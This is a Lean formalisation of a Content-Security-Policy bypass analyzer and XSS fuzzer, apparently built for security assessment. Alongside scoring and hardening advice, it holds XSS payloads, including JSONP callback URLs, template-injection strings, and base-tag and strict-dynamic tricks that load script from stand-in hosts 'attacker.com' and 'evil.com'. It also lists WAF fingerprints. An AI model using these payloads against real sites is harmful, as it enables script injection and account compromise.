       (fun k => k ∈ keywords) then false
  else if ("*".data) ∈ sources then false
  else if sources.any (fun s => ("data:".data).isPrefixOf s) then false
  else if CSPKeyword.NONE ∈ keywords then true
  else if CSPKeyword.SELF ∈ keywords ∧ sources.length ≤ 2 then true
  else sources.length ≤ 3

/-- `_calculate_directive_risk`. -/
def calcDirectiveRisk (keywords : List CSPKeyword) (sources : List Str) : Str :=
  if CSPKeyword.UNSAFE_INLINE ∈ keywords ∨ CSPKeyword.UNSAFE_EVAL ∈ keywords then
    ("critical".data)
  else if ("*".data) ∈ sources ∨ sources.length > 5 then ("high".data)
  else if sources.any (fun s => ("data:".data).isPrefixOf s) then ("medium".data)
  else if sources.any (fun src =>
            commonWhitelistDomains.any (fun d => Py.containsSub src d)) then
    ("medium".data)
  else ("low".data)

/-- The per-source parsing loop body of `_parse_csp_header`: quoted tokens
are matched against the keyword enum, then nonce/hash forms; everything
else is a plain source expression. -/
def parseSource (acc : List Str × List CSPKeyword × List Str × List Str)
    (source : Str) : List Str × List CSPKeyword × List Str × List Str :=
  let (sources, keywords, nonces, hashes) := acc
  if ("'".data).isPrefixOf source ∧ ("'".data).isSuffixOf source then
    match allKeywords.find? (fun k => k.val = source) with
    | some k => (sources, keywords ++ (if k ∈ keywords then [] else [k]), nonces, hashes)
    | none =>
      if ("'nonce-".data).isPrefixOf source then
        (sources, keywords, setInsert ((source.drop 7).dropLast) nonces, hashes)
      else if ("'sha".data).isPrefixOf source then
        (sources, keywords, nonces, setInsert ((source.drop 1).dropLast) hashes)
      else (sources, keywords, nonces, hashes)
  else (setInsert source sources, keywords, nonces, hashes)

/-- `_parse_csp_header`. -/
def parseCSPHeader (header : Str) : CSPDict :=
  let directiveStrings :=
    ((List.splitOn ';' header).map Py.strip).filter (fun d => !d.isEmpty)
  directiveStrings.foldl (fun dict ds =>
    match Py.splitWs ds with
    | [] => dict
    | name :: sourceList =>
      let directiveName := Py.lower name
      match allDirectives.find? (fun d => d.val = directiveName) with
      | none => dict
      | some dir =>
        let (sources, keywords, nonces, hashes) :=
          sourceList.foldl parseSource ([], [], [], [])
        dictInsert dir
          { directive := dir
            sources := sources
            keywords := keywords
            nonces := nonces
            hashes := hashes
            is_restrictive := isDirectiveRestrictive keywords sources
            bypass_risk := calcDirectiveRisk keywords sources }
          dict) []

/-- `directives.get(SCRIPT_SRC) or directives.get(DEFAULT_SRC)`. -/
def scriptDirective (d : CSPDict) : Option CSPDirectiveConfig :=
  (d.lookup CSPDirective.SCRIPT_SRC).orElse (fun _ => d.lookup CSPDirective.DEFAULT_SRC)

/-- `_generate_unsafe_inline_bypass`. -/
def genUnsafeInline (d : CSPDict) : List CSPBypassPayload :=
  match scriptDirective d with
  | some cfg =>
    if CSPKeyword.UNSAFE_INLINE ∈ cfg.keywords then
      [{ technique := .UNSAFE_INLINE
         payload := ("<script>alert(\"CSP Bypass - Unsafe Inline\")</script>".data)
         description := ("Direct inline script execution via 'unsafe-inline'".data)
         requirements := [("'unsafe-inline' in script-src or default-src".data)]
         confidence := mkRat 95 100
         affected_directives := [.SCRIPT_SRC]
         payload_category := ("script".data)
         exploitation_steps :=
           [("1. Inject the payload into any HTML context".data),
            ("2. The inline script will execute immediately".data),
            ("3. No additional setup required due to 'unsafe-inline'".data)] },
       { technique := .UNSAFE_INLINE
         payload := ("<img src=x onerror=\"alert('CSP Bypass - Event Handler')\">".data)
         description := ("Inline event handler execution via 'unsafe-inline'".data)
         requirements := [("'unsafe-inline' in script-src or default-src".data)]
         confidence := mkRat 9 10
         affected_directives := [.SCRIPT_SRC]
         payload_category := ("event_handler".data)
         exploitation_steps :=
           [("1. Inject payload in HTML content area".data),
            ("2. Image load failure triggers onerror handler".data),
            ("3. Inline JavaScript executes due to 'unsafe-inline'".data)] }]
    else []
  | none => []

/-- `_generate_unsafe_eval_bypass`. -/
def genUnsafeEval (d : CSPDict) : List CSPBypassPayload :=
  match scriptDirective d with
  | some cfg =>
    if CSPKeyword.UNSAFE_EVAL ∈ cfg.keywords then
      [{ technique := .UNSAFE_EVAL
         payload := ("<script>eval(\"alert(\\\"CSP Bypass - Eval\\\")\")</script>".data)
         description := ("Code execution via eval() function with 'unsafe-eval'".data)
         requirements := [("'unsafe-eval' in script-src".data),
                          ("Ability to inject script content".data)]
         confidence := mkRat 9 10
         affected_directives := [.SCRIPT_SRC]
         payload_category := ("script".data)
         exploitation_steps :=
           [("1. Inject script tag with eval() call".data),
            ("2. eval() executes due to 'unsafe-eval' permission".data),
            ("3. String-based code execution achieved".data)] },
       { technique := .UNSAFE_EVAL
         payload :=
           ("<script>Function(\"alert(\\\"CSP Bypass - Function Constructor\\\")\")()</script>".data)
         description :=
           ("Code execution via Function constructor with 'unsafe-eval'".data)
         requirements := [("'unsafe-eval' in script-src".data)]
         confidence := mkRat 85 100
         affected_directives := [.SCRIPT_SRC]
         payload_category := ("script".data)
         exploitation_steps :=
           [("1. Use Function constructor to create executable code".data),
            ("2. Function constructor allowed by 'unsafe-eval'".data),
            ("3. Immediately invoke the created function".data)] }]
    else []
  | none => []

def jsonpDomains : List (Str × Str) :=
  [(("googleapis.com".data),
    ("https://accounts.google.com/o/oauth2/revoke?callback=alert".data)),
   (("google.com".data),
    ("https://www.google.com/complete/search?client=chrome&jsonp=alert".data)),
   (("gstatic.com".data),
    ("https://cse.google.com/api/cx/016652522511468994752:1y-bg_ij9_a/cse/suggest?callback=alert".data))]

/-- `_generate_jsonp_bypass`. -/
def genJsonp (d : CSPDict) : List CSPBypassPayload :=
  match scriptDirective d with
  | none => []
  | some cfg =>
    (jsonpDomains.map (fun pr =>
      if cfg.sources.any (fun s => Py.containsSub s pr.1 || s = pr.1) then
        [{ technique := .JSONP_CALLBACK
           payload := ("<script src=\"".data) ++ pr.2 ++ ("\"></script>".data)
           description := ("JSONP callback execution via whitelisted ".data) ++ pr.1
           requirements := [pr.1 ++ (" whitelisted in script-src".data),
                            ("Network access to domain".data)]
           confidence := mkRat 8 10
           affected_directives := [.SCRIPT_SRC]
           payload_category := ("jsonp".data)
           exploitation_steps :=
             [("1. Inject script tag pointing to JSONP endpoint on ".data) ++ pr.1,
              ("2. JSONP endpoint calls specified callback function".data),
              ("3. Callback parameter contains malicious JavaScript".data),
              ("4. Code executes in page context".data)] }]
      else [])).flatten

def angularPatterns : List Str :=
  [("\x7b\x7bconstructor.constructor(\"alert(1)\")()\x7d\x7d".data),
   ("\x7b\x7b$new.constructor(\"alert(1)\")()\x7d\x7d".data),
   ("\x7b\x7b[].constructor.constructor(\"alert(1)\")()\x7d\x7d".data)]

/-- `_generate_angular_bypass`. -/
def genAngular (d : CSPDict) : List CSPBypassPayload :=
  match scriptDirective d with
  | some cfg =>
    if CSPKeyword.UNSAFE_EVAL ∈ cfg.keywords then
      angularPatterns.map (fun pat =>
        { technique := .ANGULAR_INJECTION
          payload := pat
          description := ("AngularJS template injection with constructor escape".data)
          requirements := [("AngularJS framework loaded".data),
                           ("'unsafe-eval' in CSP".data),
                           ("Template injection point".data)]
          confidence := mkRat 7 10
          affected_directives := [.SCRIPT_SRC]
          payload_category := ("template_injection".data)
          exploitation_steps :=
            [("1. Identify AngularJS template injection point".data),
             ("2. Inject constructor-based payload".data),
             ("3. AngularJS evaluates expression due to 'unsafe-eval'".data),
             ("4. Constructor escape leads to code execution".data)] })
    else []
  | none => []

def vuePatterns : List Str :=
  [("\x7b\x7bconstructor.constructor(\"alert(1)\")()\x7d\x7d".data),
   ("\x7b\x7b$root.constructor.constructor(\"alert(1)\")()\x7d\x7d".data)]

/-- `_generate_vue_bypass`. -/
def genVue (d : CSPDict) : List CSPBypassPayload :=
  match scriptDirective d with
  | some cfg =>
    if CSPKeyword.UNSAFE_EVAL ∈ cfg.keywords then
      vuePatterns.map (fun pat =>
        { technique := .VUE_INJECTION
          payload := pat
          description := ("Vue.js template injection with constructor access".data)
          requirements := [("Vue.js framework loaded".data),
                           ("'unsafe-eval' in CSP".data),
                           ("Template injection point".data)]
          confidence := mkRat 65 100
          affected_directives := [.SCRIPT_SRC]
          payload_category := ("template_injection".data)
          exploitation_steps :=
            [("1. Find Vue.js template expression injection point".data),
             ("2. Use constructor access to escape sandbox".data),
             ("3. Vue.js evaluates expression with 'unsafe-eval'".data),
             ("4. Achieve arbitrary code execution".data)] })
    else []
  | none => []

/-- `_generate_script_gadget_bypass`. -/
def genScriptGadget (d : CSPDict) : List CSPBypassPayload :=
  match scriptDirective d with
  | some cfg =>
    if !cfg.sources.isEmpty then
      [{ technique := .SCRIPT_GADGET
         payload :=
           ("<div id=\"1\" data-url=\"javascript:alert('Script Gadget')\"></div>".data)
         description := ("DOM-based script gadget via data attributes".data)
         requirements := [("Vulnerable JavaScript framework".data),
                          ("DOM manipulation capability".data)]
         confidence := mkRat 4 10
         affected_directives := [.SCRIPT_SRC]
         payload_category := ("dom_manipulation".data)
         exploitation_steps :=
           [("1. Inject DOM elements with script gadget patterns".data),
            ("2. Trigger DOM events or framework processing".data),
            ("3. Vulnerable framework processes injected content".data),
            ("4. Script execution occurs via DOM manipulation".data)] },
       { technique := .SCRIPT_GADGET
         payload :=
           ("<input id=\"gadget\" value=\"alert('Script Gadget')\" onfocus=\"eval(this.value)\">".data)
         description := ("Form input script gadget with focus trigger".data)
         requirements := [("Form input manipulation".data),
                          ("Focus event capability".data)]
         confidence := mkRat 4 10
         affected_directives := [.SCRIPT_SRC]
         payload_category := ("dom_manipulation".data)
         exploitation_steps :=
           [("1. Inject DOM elements with script gadget patterns".data),
            ("2. Trigger DOM events or framework processing".data),
            ("3. Vulnerable framework processes injected content".data),
            ("4. Script execution occurs via DOM manipulation".data)] }]
    else []
  | none => []

/-- `_generate_base_uri_bypass`. -/
def genBaseUri (d : CSPDict) : List CSPBypassPayload :=
  let trigger :=
    match d.lookup CSPDirective.BASE_URI with
    | none => true
    | some cfg => CSPKeyword.UNSAFE_INLINE ∈ cfg.keywords
  if trigger then
    [{ technique := .BASE_URI_INJECTION
       payload :=
         ("<base href=\"//attacker.com/\"><script src=\"malicious.js\"></script>".data)
       description :=
         ("Base URI manipulation to load scripts from attacker domain".data)
       requirements := [("base-uri not restricted".data),
                        ("Ability to inject base tag".data)]
       confidence := mkRat 6 10
       affected_directives := [.BASE_URI, .SCRIPT_SRC]
       payload_category := ("base_manipulation".data)
       exploitation_steps :=
         [("1. Inject base tag pointing to attacker-controlled domain".data),
          ("2. Inject relative script tag after base tag".data),
          ("3. Browser resolves script src relative to malicious base".data),
          ("4. Script loads from attacker domain bypassing CSP".data)] }]
  else []

/-- `_generate_location_hash_bypass`: unconditional, independent of the
parsed directives. -/
def genLocationHash (_ : CSPDict) : List CSPBypassPayload :=
  [{ technique := .LOCATION_HASH
     payload :=
       ("<script>eval(location.hash.slice(1))</script>#alert(\"Hash Bypass\")".data)
     description := ("Location.hash evaluation for CSP bypass".data)
     requirements := [("'unsafe-eval' in script-src".data),
                      ("Control over URL fragment".data)]
     confidence := mkRat 5 10
     affected_directives := [.SCRIPT_SRC]
     payload_category := ("hash_injection".data)
     exploitation_steps :=
       [("1. Inject script that evaluates location.hash".data),
        ("2. Craft URL with malicious payload in fragment".data),
        ("3. Script extracts and evaluates hash content".data),
        ("4. Code execution via eval() with fragment data".data)] }]

/-- `_generate_iframe_srcdoc_bypass`. -/
def genIframeSrcdoc (d : CSPDict) : List CSPBypassPayload :=
  let frameDirective :=
    ((d.lookup CSPDirective.FRAME_SRC).orElse
      (fun _ => d.lookup CSPDirective.CHILD_SRC)).orElse
      (fun _ => d.lookup CSPDirective.DEFAULT_SRC)
  match frameDirective with
  | some cfg =>
    if cfg.sources.any (fun s => Py.containsSub s ("data:".data)) then
      [{ technique := .IFRAME_SRCDOC
         payload :=
           ("<iframe srcdoc=\"<script>parent.alert('Iframe Srcdoc Bypass')</script>\"></iframe>".data)
         description := ("Iframe srcdoc attribute bypass for script execution".data)
         requirements := [("iframe injection capability".data),
                          ("data: URI allowed in frame sources".data)]
         confidence := mkRat 7 10
         affected_directives := [.FRAME_SRC, .CHILD_SRC]
         payload_category := ("iframe_injection".data)
         exploitation_steps :=
           [("1. Inject iframe with srcdoc attribute".data),
            ("2. Include malicious script in srcdoc content".data),
            ("3. Iframe content executes in separate context".data),
            ("4. Script can access parent window if same-origin".data)] }]
    else []
  | none => []

/-- `_generate_data_uri_bypass`. -/
def genDataUri (d : CSPDict) : List CSPBypassPayload :=
  match scriptDirective d with
  | some cfg =>
    if cfg.sources.any (fun s => Py.containsSub s ("data:".data)) then
      [{ technique := .DATA_URI
         payload :=
           ("<script src=\"data:text/javascript;base64,".data)
           ++ Py.b64encode ("alert('Data URI Bypass')".data)
           ++ ("\"></script>".data)
         description :=
           ("Data URI scheme bypass with base64 encoded JavaScript".data)
         requirements := [("data: URI allowed in script-src".data),
                          ("Base64 encoding support".data)]
         confidence := mkRat 85 100
         affected_directives := [.SCRIPT_SRC]
         payload_category := ("data_uri".data)
         exploitation_steps :=
           [("1. Encode malicious JavaScript as base64".data),
            ("2. Create data URI with JavaScript MIME type".data),
            ("3. Inject script tag with data URI src".data),
            ("4. Browser executes decoded JavaScript".data)] }]
    else []
  | none => []

def vulnerableDomains : List (Str × Str) :=
  [(("github.io".data), ("https://username.github.io/repo/xss.js".data)),
   (("herokuapp.com".data), ("https://evil-app.herokuapp.com/xss.js".data)),
   (("netlify.app".data), ("https://evil-site.netlify.app/xss.js".data)),
   (("raw.githubusercontent.com".data),
    ("https://raw.githubusercontent.com/user/repo/master/xss.js".data))]

/-- `_generate_whitelisted_domain_bypass`. -/
def genWhitelistedDomain (d : CSPDict) : List CSPBypassPayload :=
  match scriptDirective d with
  | some cfg =>
    (vulnerableDomains.map (fun pr =>
      if cfg.sources.any (fun s => Py.containsSub s pr.1 || pr.1.isSuffixOf s) then
        [{ technique := .WHITELISTED_DOMAIN
           payload := ("<script src=\"".data) ++ pr.2 ++ ("\"></script>".data)
           description := ("Whitelisted domain abuse via ".data) ++ pr.1
           requirements := [("Control over content on ".data) ++ pr.1,
                            pr.1 ++ (" whitelisted in CSP".data)]
           confidence := mkRat 6 10
           affected_directives := [.SCRIPT_SRC]
           payload_category := ("domain_abuse".data)
           exploitation_steps :=
             [("1. Upload malicious JavaScript to ".data) ++ pr.1,
              ("2. Inject script tag pointing to malicious resource".data),
              ("3. Browser loads script from trusted ".data) ++ pr.1,
              ("4. Malicious code executes with full privileges".data)] }]
      else [])).flatten
  | none => []

/-- `_generate_strict_dynamic_bypass`. -/
def genStrictDynamic (d : CSPDict) : List CSPBypassPayload :=
  match scriptDirective d with
  | some cfg =>
    if CSPKeyword.STRICT_DYNAMIC ∈ cfg.keywords then
      [{ technique := .STRICT_DYNAMIC_ABUSE
         payload :=
           ("<script nonce=\"TRUSTED_NONCE\">document.createElement(\"script\").src=\"//evil.com/xss.js\"</script>".data)
         description :=
           ("'strict-dynamic' abuse via trusted script creating untrusted script".data)
         requirements := [("'strict-dynamic' in CSP".data),
                          ("Valid nonce or hash".data),
                          ("Script creation capability".data)]
         confidence := mkRat 5 10
         affected_directives := [.SCRIPT_SRC]
         payload_category := ("strict_dynamic".data)
         exploitation_steps :=
           [("1. Inject trusted script with valid nonce/hash".data),
            ("2. Use trusted script to create new script element".data),
            ("3. Set malicious src on dynamically created script".data),
            ("4. 'strict-dynamic' allows execution of created script".data)] }]
    else []
  | none => []

/-- `_generate_meta_refresh_bypass`. -/
def genMetaRefresh (d : CSPDict) : List CSPBypassPayload :=
  match d.lookup CSPDirective.NAVIGATE_TO with
  | some _ => []
  | none =>
    [{ technique := .META_REFRESH
       payload :=
         ("<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('Meta Refresh Bypass')\">".data)
       description := ("Meta refresh redirection to javascript: URI".data)
       requirements := [("Meta tag injection capability".data),
                        ("navigate-to directive not set".data)]
       confidence := mkRat 3 10
       affected_directives := [.NAVIGATE_TO]
       payload_category := ("navigation".data)
       exploitation_steps :=
         [("1. Inject meta refresh tag with javascript: URI".data),
          ("2. Browser attempts to navigate to javascript: URL".data),
          ("3. JavaScript protocol execution may occur".data),
          ("4. Success depends on browser and CSP implementation".data)] }]

/-- `_analyze_bypass_technique`: dispatch through `bypass_generators`;
techniques without a generator contribute nothing. -/
def analyzeBypassTechnique (t : BypassTechnique) (d : CSPDict) :
    List CSPBypassPayload :=
  match t with
  | .UNSAFE_INLINE => genUnsafeInline d
  | .UNSAFE_EVAL => genUnsafeEval d
  | .JSONP_CALLBACK => genJsonp d
  | .ANGULAR_INJECTION => genAngular d
  | .VUE_INJECTION => genVue d
  | .SCRIPT_GADGET => genScriptGadget d
  | .BASE_URI_INJECTION => genBaseUri d
  | .LOCATION_HASH => genLocationHash d
  | .IFRAME_SRCDOC => genIframeSrcdoc d
  | .DATA_URI => genDataUri d
  | .WHITELISTED_DOMAIN => genWhitelistedDomain d
  | .STRICT_DYNAMIC_ABUSE => genStrictDynamic d
  | .META_REFRESH => genMetaRefresh d
  | _ => []

/-- `_calculate_security_score`. -/
def calcSecurityScore (d : CSPDict) (bypasses : List CSPBypassPayload) : ℚ :=
  let perDirective : ℚ :=
    (d.map (fun pr =>
      (if CSPKeyword.UNSAFE_INLINE ∈ pr.2.keywords then (-3 : ℚ) else 0)
      + (if CSPKeyword.UNSAFE_EVAL ∈ pr.2.keywords then (mkRat (-5) 2) else 0)
      + (if ("*".data) ∈ pr.2.sources then (-2 : ℚ) else 0)
      + (if pr.2.sources.any (fun s => Py.containsSub s ("data:".data)) then
           (mkRat (-3) 2) else 0))).sum
  let highConfidence := (bypasses.filter (fun b => b.confidence > mkRat 7 10)).length
  let restrictive := (d.filter (fun pr => pr.2.is_restrictive)).length
  let score : ℚ :=
    5 + perDirective - (highConfidence : ℚ) * (mkRat 1 2) + (restrictive : ℚ) * (mkRat 3 10)
  max 0 (min 10 score)

/-- `_identify_critical_issues`. -/
def identifyCriticalIssues (d : CSPDict) : List Str :=
  let script := scriptDirective d
  (match script with
   | some cfg =>
     (if CSPKeyword.UNSAFE_INLINE ∈ cfg.keywords then
       [("'unsafe-inline' allows arbitrary inline script execution".data)] else [])
     ++ (if CSPKeyword.UNSAFE_EVAL ∈ cfg.keywords then
       [("'unsafe-eval' allows eval() and Function() constructor usage".data)] else [])
     ++ (if ("*".data) ∈ cfg.sources then
       [("Wildcard (*) in script-src allows scripts from any domain".data)] else [])
   | none => [])
  ++ (if (d.lookup CSPDirective.SCRIPT_SRC).isNone
         ∧ (d.lookup CSPDirective.DEFAULT_SRC).isNone then
       [("No script-src or default-src directive found".data)] else [])
  ++ (if (d.lookup CSPDirective.OBJECT_SRC).isNone then
       [("Missing object-src directive allows plugin execution".data)] else [])

/-- `_generate_recommendations`. -/
def generateRecommendations (d : CSPDict) (bypasses : List CSPBypassPayload) :
    List Str :=
  let script := scriptDirective d
  (match script with
   | some cfg =>
     (if CSPKeyword.UNSAFE_INLINE ∈ cfg.keywords then
       [("Remove 'unsafe-inline' and use nonces or hashes for inline scripts".data)]
      else [])
     ++ (if CSPKeyword.UNSAFE_EVAL ∈ cfg.keywords then
       [("Remove 'unsafe-eval' and avoid eval(), setTimeout(string), etc.".data)]
      else [])
     ++ (if ("*".data) ∈ cfg.sources then
       [("Replace wildcard (*) with specific trusted domains".data)] else [])
   | none => [])
  ++ (if (d.lookup CSPDirective.OBJECT_SRC).isNone then
       [("Add 'object-src 'none'' to prevent plugin execution".data)] else [])
  ++ (if (d.lookup CSPDirective.BASE_URI).isNone then
       [("Add 'base-uri 'self'' to prevent base tag injection".data)] else [])
  ++ (if (d.lookup CSPDirective.FORM_ACTION).isNone then
       [("Add 'form-action 'self'' to restrict form submission URLs".data)] else [])
  ++ (let hc := (bypasses.filter (fun b => b.confidence > mkRat 7 10)).length
      if hc > 0 then
        [("Fix ".data) ++ Py.natStr hc
         ++ (" high-confidence bypass opportunities".data)]
      else [])

/-- `_create_bypass_summary`. -/
def createBypassSummary (bypasses : List CSPBypassPayload) : Str :=
  if bypasses.isEmpty then ("No bypass opportunities identified".data)
  else
    let high := (bypasses.filter (fun b => b.confidence > mkRat 7 10)).length
    let medium := (bypasses.filter (fun b => mkRat 4 10 ≤ b.confidence ∧ b.confidence ≤ mkRat 7 10)).length
    let low := (bypasses.filter (fun b => b.confidence < mkRat 4 10)).length
    ("Found ".data) ++ Py.natStr bypasses.length ++ (" potential bypasses: ".data)
    ++ Py.natStr high ++ (" high-confidence, ".data)
    ++ Py.natStr medium ++ (" medium-confidence, ".data)
    ++ Py.natStr low ++ (" low-confidence".data)
    ++ (if high > 0 then (". CSP is likely bypassable.".data)
        else if medium > 0 then
          (". CSP may be bypassable under certain conditions.".data)
        else (". CSP appears relatively secure.".data))

/-- `analyze_csp`. -/
def analyzeCSP (header : Str) : CSPAnalysisResult :=
  let directives := parseCSPHeader header
  let bypassOpportunities :=
    (allBypassTechniques.map (fun t => analyzeBypassTechnique t directives)).flatten
  let securityScore := calcSecurityScore directives bypassOpportunities
  let criticalIssues := identifyCriticalIssues directives
  let recommendations := generateRecommendations directives bypassOpportunities
  let isBypassable :=
    !(bypassOpportunities.filter (fun b => b.confidence > mkRat 7 10)).isEmpty
  let bypassSummary := createBypassSummary bypassOpportunities
  { policy_header := header
    directives := directives
    bypass_opportunities := bypassOpportunities
    security_score := securityScore
    critical_issues := criticalIssues
    recommendations := recommendations
    is_bypassable := isBypassable
    bypass_summary := bypassSummary }

end CSP

/-!
Embedding of `fuzzing/context_fuzzer.py`.  The `\x7bINJECTION\x7d`
placeholder of the context-detection patterns is substituted with the
`re.escape`d marker, i.e. the marker participates as a literal; the
patterns are therefore embedded as functions from the marker to a regex.
-/

namespace Fuzzer

inductive InjectionContext where
  | HTML_TAG_CONTENT | HTML_ATTRIBUTE_VALUE | HTML_ATTRIBUTE_NAME
  | HTML_TAG_NAME | HTML_COMMENT
  | JAVASCRIPT_STRING_SINGLE | JAVASCRIPT_STRING_DOUBLE | JAVASCRIPT_TEMPLATE
  | JAVASCRIPT_VARIABLE | JAVASCRIPT_COMMENT_LINE | JAVASCRIPT_COMMENT_BLOCK
  | CSS_PROPERTY_VALUE | CSS_SELECTOR | CSS_COMMENT
  | URL_PATH | URL_QUERY | URL_FRAGMENT
  | JSON_VALUE | XML_CONTENT | XML_ATTRIBUTE
deriving DecidableEq, Repr

def InjectionContext.val : InjectionContext → Str
  | .HTML_TAG_CONTENT => ("html_tag_content".data)
  | .HTML_ATTRIBUTE_VALUE => ("html_attribute_value".data)
  | .HTML_ATTRIBUTE_NAME => ("html_attribute_name".data)
  | .HTML_TAG_NAME => ("html_tag_name".data)
  | .HTML_COMMENT => ("html_comment".data)
  | .JAVASCRIPT_STRING_SINGLE => ("js_string_single".data)
  | .JAVASCRIPT_STRING_DOUBLE => ("js_string_double".data)
  | .JAVASCRIPT_TEMPLATE => ("js_template".data)
  | .JAVASCRIPT_VARIABLE => ("js_variable".data)
  | .JAVASCRIPT_COMMENT_LINE => ("js_comment_line".data)
  | .JAVASCRIPT_COMMENT_BLOCK => ("js_comment_block".data)
  | .CSS_PROPERTY_VALUE => ("css_property_value".data)
  | .CSS_SELECTOR => ("css_selector".data)
  | .CSS_COMMENT => ("css_comment".data)
  | .URL_PATH => ("url_path".data)
  | .URL_QUERY => ("url_query".data)
  | .URL_FRAGMENT => ("url_fragment".data)
  | .JSON_VALUE => ("json_value".data)
  | .XML_CONTENT => ("xml_content".data)
  | .XML_ATTRIBUTE => ("xml_attribute".data)

structure FuzzingResult where
  payload : Str
  context : InjectionContext
  success : Bool
  confidence : ℚ
  mutations_applied : List Str
  encoding_used : Str
  response_indicators : List (Str × Analyzer.PyVal)
  waf_detected : Bool
  waf_type : Option Str
deriving DecidableEq, Repr

structure ContextFingerprint where
  context_type : InjectionContext
  prefix_ : Str
  suffix_ : Str
  filters_detected : List Str
  allowed_chars : List Char
  blocked_chars : List Char
  max_length : Option Nat
  encoding_required : Option Str
deriving DecidableEq, Repr

def notGt (c : Char) : Bool := c ≠ '>'

def notLt (c : Char) : Bool := c ≠ '<'

def quoteCls (c : Char) : Bool := c = '"' || c = '\''

def notQuote (c : Char) : Bool := !(quoteCls c)

def notSpaceGt (c : Char) : Bool := !(Py.isSpaceChar c) && c ≠ '>'

def cssValCls (c : Char) : Bool := c ≠ ';' && c ≠ '\x7d' && !(Py.isSpaceChar c)

/-- `context_patterns`, in dict order; each entry maps the escaped marker
to the compiled pattern.  (The human-readable description strings of the
table are unused by the code and omitted.) -/
def contextPatterns : List (InjectionContext × List (Str → Re.RE)) :=
  [(.HTML_TAG_CONTENT,
    [fun m => Re.seqAll [.lit ("<".data), .plusG notGt, .lit (">".data),
       .grp 1 (.starL notLt), .lit m, .grp 2 (.starL notLt),
       .lit ("</".data), .plusG notGt, .lit (">".data)],
     fun m => Re.seqAll [.lit (">".data), .grp 1 (.starL notLt), .lit m,
       .grp 2 (.starL notLt), .lit ("<".data)]]),
   (.HTML_ATTRIBUTE_VALUE,
    [fun m => Re.seqAll [.lit ("<".data), .plusG notGt, .plusG Py.isSpaceChar,
       .plusG Re.wChar, .lit ("=".data), .cls quoteCls,
       .grp 1 (.starL notQuote), .lit m, .grp 2 (.starL notQuote),
       .cls quoteCls, .starG notGt, .lit (">".data)],
     fun m => Re.seqAll [.lit ("<".data), .plusG notGt, .plusG Py.isSpaceChar,
       .plusG Re.wChar, .lit ("=".data), .grp 1 (.starL notSpaceGt), .lit m,
       .grp 2 (.starL notSpaceGt), .cls (fun c => Py.isSpaceChar c || c = '>')]]),
   (.JAVASCRIPT_STRING_SINGLE,
    [fun m => Re.seqAll [.lit ("'".data), .grp 1 (.starL (fun c => c ≠ '\'')),
       .lit m, .grp 2 (.starL (fun c => c ≠ '\'')), .lit ("'".data)]]),
   (.JAVASCRIPT_STRING_DOUBLE,
    [fun m => Re.seqAll [.lit ("\"".data), .grp 1 (.starL (fun c => c ≠ '"')),
       .lit m, .grp 2 (.starL (fun c => c ≠ '"')), .lit ("\"".data)]]),
   (.JAVASCRIPT_TEMPLATE,
    [fun m => Re.seqAll [.lit ("\x60".data), .grp 1 (.starL (fun c => c ≠ '\x60')),
       .lit m, .grp 2 (.starL (fun c => c ≠ '\x60')), .lit ("\x60".data)]]),
   (.CSS_PROPERTY_VALUE,
    [fun m => Re.seqAll [.lit (":".data), .starG Py.isSpaceChar,
       .grp 1 (.starL cssValCls), .lit m, .grp 2 (.starL cssValCls),
       .cls (fun c => c = ';' || c = '\x7d')]]),
   (.URL_QUERY,
    [fun m => Re.seqAll [.cls (fun c => c = '?' || c = '&'), .plusG Re.wChar,
       .lit ("=".data), .grp 1 (.starL (fun c => c ≠ '&')), .lit m,
       .grp 2 (.starL (fun c => c ≠ '&')), .alt (.lit ("&".data)) .eos]]),
   (.JSON_VALUE,
    [fun m => Re.seqAll [.lit (":".data), .starG Py.isSpaceChar, .lit ("\"".data),
       .grp 1 (.starL (fun c => c ≠ '"')), .lit m,
       .grp 2 (.starL (fun c => c ≠ '"')), .lit ("\"".data)]])]

def contextBreakers (c : InjectionContext) : List Str :=
  match c with
  | .HTML_TAG_CONTENT => [("<".data), (">".data), ("</".data), ("/>".data)]
  | .HTML_ATTRIBUTE_VALUE => [("\"".data), ("'".data), (" ".data), (">".data)]
  | .JAVASCRIPT_STRING_SINGLE => [("'".data), ("\\".data), ("\n".data)]
  | .JAVASCRIPT_STRING_DOUBLE => [("\"".data), ("\\".data), ("\n".data)]
  | .JAVASCRIPT_TEMPLATE => [("\x60".data), ("$\x7b".data), ("\x7d".data)]
  | .CSS_PROPERTY_VALUE => [(";".data), ("\x7d".data), ("/*".data), ("*/".data)]
  | .URL_QUERY => [("&".data), ("#".data), (" ".data), ("%00".data)]
  | .JSON_VALUE => [("\"".data), ("\\".data), ("\n".data), ("\x7d".data)]
  | _ => []

/-- The `encoders` table (`dict.get` by name). -/
def encoderFor (name : Str) : Option (Str → Str) :=
  if name = ("none".data) then some id
  else if name = ("html".data) then some Py.htmlEscape
  else if name = ("url".data) then some (Py.urlQuote ['/'])
  else if name = ("double_url".data) then
    some (fun s => Py.urlQuote ['/'] (Py.urlQuote ['/'] s))
  else if name = ("base64".data) then some Py.b64encode
  else if name = ("hex".data) then
    some (Py.concatMapStr (fun c => '%' :: Py.hex2 c.toNat))
  else if name = ("unicode".data) then
    some (Py.concatMapStr (fun c => '\\' :: 'u' :: Py.hex4 c.toNat))
  else if name = ("html_decimal".data) then
    some (Py.concatMapStr (fun c => '&' :: '#' :: Py.natStr c.toNat ++ (";".data)))
  else if name = ("html_hex".data) then
    some (Py.concatMapStr (fun c => '&' :: '#' :: 'x' :: Py.hex2 c.toNat ++ (";".data)))
  else none

def wafSignatures : List (Str × List Str) :=
  [(("ModSecurity".data), [("ModSecurity".data), ("Mod_Security".data), ("NOYB".data)]),
   (("AWS WAF".data), [("AWS WAF".data), ("AWSalb".data)]),
   (("Cloudflare".data), [("cloudflare".data), ("cf-ray".data)]),
   (("Akamai".data), [("akamai".data), ("akamai-ghost".data)]),
   (("F5 BIG-IP".data), [("F5-".data), ("BIG-IP".data), ("x-waf-status".data)]),
   (("Barracuda".data), [("barracuda".data), ("barra".data)]),
   (("Sucuri".data), [("sucuri".data), ("x-sucuri-id".data)]),
   (("Wordfence".data), [("wordfence".data), ("wf-".data)])]

/-- `_detect_filters`. -/
def detectFilters (response marker : Str) : List Str :=
  (if Py.containsSub response (Py.lower marker) && !(Py.containsSub response marker)
   then [("lowercase_filter".data)] else [])
  ++ (if Py.containsSub response (Py.htmlEscape marker)
         && !(Py.containsSub response marker)
      then [("html_encoding".data)] else [])
  ++ (if Py.containsSub response (Py.urlQuote ['/'] marker)
         && !(Py.containsSub response marker)
      then [("url_encoding".data)] else [])
